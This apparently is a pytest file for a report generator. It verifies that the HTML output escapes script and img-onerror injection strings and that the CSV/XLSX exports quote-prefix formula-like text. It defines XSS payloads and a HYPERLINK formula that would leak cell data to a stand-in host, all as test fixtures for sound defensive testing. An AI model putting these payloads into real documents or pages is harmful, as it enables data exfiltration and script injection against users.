"""Nothing injected by the report: the HTML escapes every text from the inputs, the data files neutralise
formula-like text."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import attrs
import openpyxl
import pyarrow as pa
import pytest

from samhandling.exporters.formulas import is_formula_like
from samhandling.report import build_report
from samhandling.report.build import _write_plain
from samhandling.report.demo import demo_inputs
from samhandling.tables import Provenance

SCRIPT = "<script>alert('x')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikk her")'


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    inputs = demo_inputs(2024)
    survey = inputs.survey
    assert survey is not None
    provenance = Provenance(
        source=SCRIPT, location=f"{FORMULA}{IMAGE}.xlsx", checksum="sha256:<b>", note=f"note {SCRIPT}"
    )
    hostile = survey.with_arrow(survey.arrow, provenance=[provenance], title=f"Tittel {IMAGE}")
    out = tmp_path_factory.mktemp("hostile")
    build_report(attrs.evolve(inputs, survey=hostile), out, formats=("csv",))
    return out


def test_the_html_escapes_every_text_from_the_inputs(hostile_report: Path) -> None:
    html = (hostile_report / "index.html").read_text(encoding="utf-8")
    assert SCRIPT not in html
    assert "<img src=x" not in html
    assert "<b>" not in html
    assert "&lt;script&gt;alert(" in html  # shown as text, not dropped
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    # the one script is the report's own (sorting and filtering tables); nothing from the inputs
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", html, re.DOTALL)
    assert len(scripts) == html.count("<script") == 1
    assert "alert(" not in scripts[0]


def test_plain_data_files_neutralise_formulas(tmp_path: Path) -> None:
    table = pa.table({"rule": ["duplicates", FORMULA], "message": [f"{SCRIPT}", "-1"], "count": [-3, 4]})
    csv_path = _write_plain(table, tmp_path / "funn.csv", "csv")
    assert csv_path is not None
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[2][0] == "'" + FORMULA
    assert rows[2][1] == "-1"
    assert rows[1][2] == "-3"
    xlsx_path = _write_plain(table, tmp_path / "funn.xlsx", "xlsx")
    assert xlsx_path is not None
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.quotePrefix
    assert sheet["A3"].value == FORMULA
    assert sheet["C2"].value == -3
